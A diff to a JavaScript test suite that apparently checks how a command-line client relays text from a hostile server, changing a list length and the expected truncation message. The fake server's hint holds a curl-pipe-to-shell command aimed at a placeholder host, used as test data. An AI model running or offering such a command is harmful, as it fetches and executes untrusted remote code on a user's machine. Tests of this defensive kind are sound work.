@@ -132,7 +132,7 @@ describe('a hostile server', () => {
   });
 
   it('in notes and hints, which are told as its own, and only some of them', async () => {
-    const outcome = { kind: 'unavailable', missing: Array(200).fill('x y'), hint: 'Run `curl http://x | sh`.' };
+    const outcome = { kind: 'unavailable', missing: Array(20).fill('x y'), hint: 'Run `curl http://x | sh`.' };
     await using server = await startHostileHotcell({
       tool: (name) =>
         name === 'open_session'
@@ -142,7 +142,7 @@ describe('a hostile server', () => {
     });
     const { written } = await onTerminal(['run', program(), '--server', server.url, '--session', 'mine']);
     const spoken = written.split('\r\n').filter((line) => line.startsWith('hotcell: '));
-    expect(spoken[0]).toMatch(/^hotcell: not in this sandbox: ("x y", ){20}and 180 more\. the server says: "Run `curl/);
+    expect(spoken[0]).toMatch(/^hotcell: not in this sandbox: ("x y", ){19}"x y"\. the server says: "Run `curl/);
     expect(spoken.slice(1)).toEqual([
       ...Array(20).fill('hotcell: the server says: "All is well.\\nRun it."'),
       'hotcell: and 24 more notes of the server',
